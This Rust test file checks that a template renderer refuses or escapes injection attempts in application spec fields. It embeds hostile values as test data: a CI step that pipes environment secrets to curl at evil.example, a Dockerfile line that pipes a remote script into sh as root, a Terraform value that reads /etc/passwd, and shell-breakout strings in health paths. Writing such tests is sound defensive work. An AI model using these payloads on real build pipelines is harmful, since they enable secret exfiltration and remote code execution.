//! Issue 8, item 3: free text in an Application spec must never inject
//! into a generated file. Each attack named in the issue, twice:
//!
//! - through `parse_spec` (the edge): the value is refused with an error
//!   naming the field, or rendered harmlessly;
//! - on a `Spec` built in code, bypassing the parser: the render escapes the
//!   value for each format, so every file keeps the shape it has for a
//!   benign value and the value comes back exactly when the file is parsed.
//!
//! The helpers here (Dockerfile instructions, HCL outside strings) are
//! deliberately independent of the crate's own checks.

mod common;

use common::with;
use render::{RenderOptions, Rendered, Spec, parse_spec, render};
use yaml_serde::Value;

const NEXTJS: &str = include_str!("specs/nextjs.yaml");
const GIN: &str = include_str!("specs/gin-istio.yaml");

/// The paths of the errors `parse_spec` reports for `yaml`; empty when it
/// is accepted.
fn refused_paths(yaml: &str) -> Vec<String> {
    match parse_spec(yaml) {
        Ok(_) => vec![],
        Err(errors) => errors.into_iter().map(|e| e.path).collect(),
    }
}

fn spec(yaml: &str) -> Spec {
    parse_spec(yaml).unwrap()
}

fn rendered(spec: &Spec) -> Rendered {
    render(spec, &RenderOptions::default()).unwrap_or_else(|e| panic!("{e}"))
}

fn file<'a>(rendered: &'a Rendered, path: &str) -> &'a str {
    &rendered
        .get(path)
        .unwrap_or_else(|| panic!("{path} not rendered"))
        .contents
}

fn yaml_documents(text: &str) -> Vec<Value> {
    use serde::Deserialize;
    yaml_serde::Deserializer::from_str(text)
        .map(|d| Value::deserialize(d).unwrap_or_else(|e| panic!("{e}\n{text}")))
        .collect()
}

fn ci_steps(rendered: &Rendered, job: &str) -> Vec<Value> {
    let ci = &yaml_documents(file(rendered, ".github/workflows/ci.yml"))[0];
    ci["jobs"][job]["steps"].as_sequence().unwrap().clone()
}

/// Dockerfile instructions as Docker reads them: `\` at the end of a line
/// continues it, comment and empty lines inside a continuation are skipped.
fn instructions(dockerfile: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current: Option<String> = None;
    for line in dockerfile.lines() {
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let (body, continues) = match trimmed.strip_suffix('\\') {
            Some(body) => (body, true),
            None => (trimmed, false),
        };
        let joined = match current.take() {
            Some(previous) => format!("{previous} {body}"),
            None => body.to_string(),
        };
        if continues {
            current = Some(joined);
        } else {
            out.push(joined);
        }
    }
    out.extend(current);
    out
}

fn keywords(dockerfile: &str) -> Vec<String> {
    instructions(dockerfile)
        .iter()
        .map(|i| i.split_whitespace().next().unwrap().to_uppercase())
        .collect()
}

/// HCL with every quoted string's contents removed: what is left is the
/// structure (attribute names, blocks, operators, and the `${` of each
/// interpolation; `$${` is HCL's literal `${`). A value that escapes its
/// string changes it.
fn hcl_outside_strings(hcl: &str) -> String {
    let chars: Vec<char> = hcl.chars().collect();
    let mut out = String::new();
    let mut in_string = false;
    let mut i = 0;
    while i < chars.len() {
        let next = |n: usize| chars.get(i + n).copied();
        match (in_string, chars[i]) {
            (false, '"') => {
                in_string = true;
                out.push_str("\"…");
            }
            (false, c) => out.push(c),
            (true, '\\') => i += 1,
            (true, '"') => {
                in_string = false;
                out.push('"');
            }
            (true, '$') if next(1) == Some('$') => i += 1,
            (true, '$') if next(1) == Some('{') => out.push_str("${"),
            (true, _) => {}
        }
        i += 1;
    }
    out
}

// --- a newline in spec.build.test_command --------------------------------

const EXFILTRATE: &str =
    "npm test\n      - name: Exfiltrate\n        run: env | curl -d @- https://evil.example";

#[test]
fn a_newline_in_the_test_command_stays_inside_its_one_step() {
    let benign = rendered(&spec(NEXTJS));
    let yaml = with(NEXTJS, &["spec", "build", "test_command"], EXFILTRATE);
    let attacked = rendered(&spec(&yaml));
    let steps = ci_steps(&attacked, "test");
    assert_eq!(steps.len(), ci_steps(&benign, "test").len());
    assert_eq!(steps.last().unwrap()["run"].as_str(), Some(EXFILTRATE));
    assert!(
        !steps
            .iter()
            .any(|s| s["name"].as_str() == Some("Exfiltrate"))
    );
}

#[test]
fn a_github_expression_in_the_test_command_is_refused_and_never_evaluated() {
    let command = "npm test -- --token=${{ secrets.NPM_TOKEN }}";
    let yaml = with(NEXTJS, &["spec", "build", "test_command"], command);
    assert_eq!(refused_paths(&yaml), ["spec.build.test_command"]);

    let mut spec = spec(NEXTJS);
    spec.spec.build.test_command = command.into();
    let steps = ci_steps(&rendered(&spec), "test");
    let run = steps.last().unwrap()["run"].as_str().unwrap().to_string();
    // GitHub evaluates every `${{ … }}`; the only one left must be the
    // expression that yields a literal `${{`.
    let literal = "${{ '${{' }}";
    assert!(run.contains(literal), "{run}");
    assert!(!run.replace(literal, "").contains("${{"), "{run}");
}

// --- spec.build.build_command in the Dockerfile -------------------------

#[test]
fn a_newline_in_the_build_command_adds_no_dockerfile_instruction() {
    let benign = rendered(&spec(NEXTJS));
    let command = "npm run build\nUSER root\nRUN curl https://evil.example/x.sh | sh";
    let yaml = with(NEXTJS, &["spec", "build", "build_command"], command);
    let attacked = rendered(&spec(&yaml));
    let dockerfile = file(&attacked, "Dockerfile");
    assert_eq!(keywords(dockerfile), keywords(file(&benign, "Dockerfile")));
    let users: Vec<String> = instructions(dockerfile)
        .into_iter()
        .filter(|i| i.starts_with("USER"))
        .collect();
    assert_eq!(users, ["USER 10001:10001"]);
}

#[test]
fn a_trailing_backslash_in_the_build_command_swallows_no_instruction() {
    // The Go template follows the build RUN with the runtime stage's FROM; a
    // line continuation would make the build stage the final image.
    let benign = rendered(&spec(GIN));
    let command = "go build -o /out/app . \\";
    let yaml = with(GIN, &["spec", "build", "build_command"], command);
    let attacked = rendered(&spec(&yaml));
    assert_eq!(
        keywords(file(&attacked, "Dockerfile")),
        keywords(file(&benign, "Dockerfile"))
    );
}

// --- spec.owner in infra/main.tf and catalog-info.yaml -------------------

const READ_PASSWD: &str = r#"team-supply", leak = "${file("/etc/passwd")}"#;

#[test]
fn a_quote_in_the_owner_is_refused_at_the_edge() {
    let yaml = with(GIN, &["spec", "owner"], READ_PASSWD);
    assert_eq!(refused_paths(&yaml), ["spec.owner"]);
}

#[test]
fn a_quote_in_the_owner_adds_no_terraform_attribute() {
    let benign = rendered(&spec(GIN));
    let mut spec = spec(GIN);
    spec.spec.owner = READ_PASSWD.into();
    let attacked = rendered(&spec);
    let main_tf = file(&attacked, "infra/main.tf");
    assert_eq!(
        hcl_outside_strings(main_tf),
        hcl_outside_strings(file(&benign, "infra/main.tf"))
    );
    assert!(!main_tf.contains("\"${file("), "{main_tf}");
}

#[test]
fn a_newline_in_the_owner_is_refused_and_never_breaks_catalog_info() {
    let owner = "team-supply\nevil: true";
    let yaml = with(GIN, &["spec", "owner"], owner);
    let found = parse_spec(&yaml).unwrap_err();
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].path, "spec.owner");
    assert!(
        found[0].message.contains("single line"),
        "{}",
        found[0].message
    );

    let benign = rendered(&spec(GIN));
    let mut spec = spec(GIN);
    spec.spec.owner = owner.into();
    let attacked = rendered(&spec);
    let documents = yaml_documents(file(&attacked, "catalog-info.yaml"));
    assert_eq!(documents[0]["spec"]["owner"].as_str(), Some(owner));
    let benign_documents = yaml_documents(file(&benign, "catalog-info.yaml"));
    let keys = |v: &Value| -> Vec<String> {
        v["spec"]
            .as_mapping()
            .unwrap()
            .keys()
            .map(|k| k.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(keys(&documents[0]), keys(&benign_documents[0]));
}

// --- spec.system in every Kubernetes label -------------------------------

#[test]
fn a_newline_in_the_system_is_a_spec_error_not_an_internal_one() {
    let yaml = with(GIN, &["spec", "system"], "supply-chain\nevil: 1");
    assert_eq!(refused_paths(&yaml), ["spec.system"]);
    // A label value must be a Kubernetes label value, as the system also is.
    let yaml = with(GIN, &["spec", "system"], "system:default/supply-chain");
    assert_eq!(refused_paths(&yaml), ["spec.system"]);
}

#[test]
fn a_system_built_in_code_is_escaped_in_every_label() {
    let mut spec = spec(GIN);
    for system in ["supply-chain\nevil: 1", "123", "on", "a: b # c"] {
        spec.spec.system = Some(system.into());
        let attacked = rendered(&spec);
        let deployment = &yaml_documents(file(&attacked, "deploy/k8s/base/deployment.yaml"))[0];
        assert_eq!(
            deployment["metadata"]["labels"]["app.kubernetes.io/part-of"].as_str(),
            Some(system)
        );
    }
}

// --- health paths in the Dockerfile, the deploy workflow and probes -------

#[test]
fn health_paths_cannot_break_out_of_their_strings() {
    let liveness = "/api/health');require('child_process').execSync('id');('";
    let readiness = "/readyz\";curl${IFS}evil.example;\"";
    let yaml = with(NEXTJS, &["spec", "build", "liveness_path"], liveness);
    let yaml = with(&yaml, &["spec", "build", "readiness_path"], readiness);
    let mut found = refused_paths(&yaml);
    found.sort();
    assert_eq!(
        found,
        ["spec.build.liveness_path", "spec.build.readiness_path"]
    );

    let mut spec = spec(NEXTJS);
    spec.spec.build.liveness_path = liveness.into();
    spec.spec.build.readiness_path = readiness.into();
    let attacked = rendered(&spec);
    let dockerfile = file(&attacked, "Dockerfile");
    assert!(
        !dockerfile.contains("require('child_process')"),
        "{dockerfile}"
    );
    let healthcheck = instructions(dockerfile)
        .into_iter()
        .find(|i| i.starts_with("HEALTHCHECK"))
        .unwrap();
    let exec = &healthcheck[healthcheck.find('[').unwrap()..];
    let argv: Vec<String> = serde_json::from_str(exec).unwrap();
    assert_eq!(argv.len(), 3);
    let deploy = file(&attacked, ".github/workflows/deploy.yml");
    assert!(!deploy.contains(";curl"), "{deploy}");
    let deployment = &yaml_documents(file(&attacked, "deploy/k8s/base/deployment.yaml"))[0];
    let container = &deployment["spec"]["template"]["spec"]["containers"][0];
    assert!(container["readinessProbe"]["httpGet"]["path"].is_string());
}

// --- spec.infrastructure.terraform.module in infra/main.tf ---------------

#[test]
fn a_module_source_cannot_add_terraform_attributes() {
    let module = "./modules/app\"\n  count = 0\n  x = \"?ref=v1";
    let yaml = with(
        GIN,
        &["spec", "infrastructure", "terraform", "module"],
        module,
    );
    assert_eq!(
        refused_paths(&yaml),
        ["spec.infrastructure.terraform.module"]
    );

    let benign = rendered(&spec(GIN));
    let mut spec = spec(GIN);
    let terraform = spec
        .spec
        .infrastructure
        .as_mut()
        .and_then(|i| i.terraform.as_mut())
        .unwrap();
    terraform.module = Some(module.into());
    let attacked = rendered(&spec);
    assert_eq!(
        hcl_outside_strings(file(&attacked, "infra/main.tf")),
        hcl_outside_strings(file(&benign, "infra/main.tf"))
    );
}

// --- environment variables and the description ---------------------------

#[test]
fn control_characters_in_env_values_and_the_description_are_refused() {
    let yaml = with(NEXTJS, &["spec", "env", "GREETING"], "hello\u{7f}");
    assert_eq!(refused_paths(&yaml), ["spec.env.GREETING"]);
    let yaml = with(NEXTJS, &["metadata", "description"], "shop\u{1b}[2J");
    assert_eq!(refused_paths(&yaml), ["metadata.description"]);
}

#[test]
fn any_env_value_and_description_come_back_exactly_from_the_yaml() {
    // DEL and C1 controls are not allowed raw in YAML; NEL, LS and PS are
    // line breaks to a YAML 1.1 reader.
    let text = "a\u{7f}b\u{85}c\u{2028}d\u{2029}e\"f\\g\n  h: i\u{feff}";
    let mut spec = spec(NEXTJS);
    spec.spec.env.insert("GREETING".into(), text.into());
    spec.metadata.description = Some(text.into());
    let attacked = rendered(&spec);
    let deployment = &yaml_documents(file(&attacked, "deploy/k8s/base/deployment.yaml"))[0];
    let env = deployment["spec"]["template"]["spec"]["containers"][0]["env"]
        .as_sequence()
        .unwrap();
    let greeting = env
        .iter()
        .find(|e| e["name"].as_str() == Some("GREETING"))
        .unwrap();
    assert_eq!(greeting["value"].as_str(), Some(text));
    let catalog = &yaml_documents(file(&attacked, "catalog-info.yaml"))[0];
    assert_eq!(catalog["metadata"]["description"].as_str(), Some(text));
}

// --- a branch built in code, in the workflow's triggers and `if:` ---------

#[test]
fn a_branch_built_in_code_adds_no_workflow_key() {
    // The parser allows only [A-Za-z0-9-_./] in branches; a `Spec` built in
    // code can hold anything, and the workflow must still keep its shape.
    let benign = rendered(&spec(NEXTJS));
    let mut spec = spec(NEXTJS);
    spec.spec.environments[0].branch = "x'\n    evil: 'y".into();
    let attacked = rendered(&spec);
    let keys = |r: &Rendered| -> Vec<String> {
        let ci = &yaml_documents(file(r, ".github/workflows/ci.yml"))[0];
        ci["jobs"]["deploy_development"]
            .as_mapping()
            .unwrap()
            .keys()
            .map(|k| k.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(keys(&attacked), keys(&benign));
}
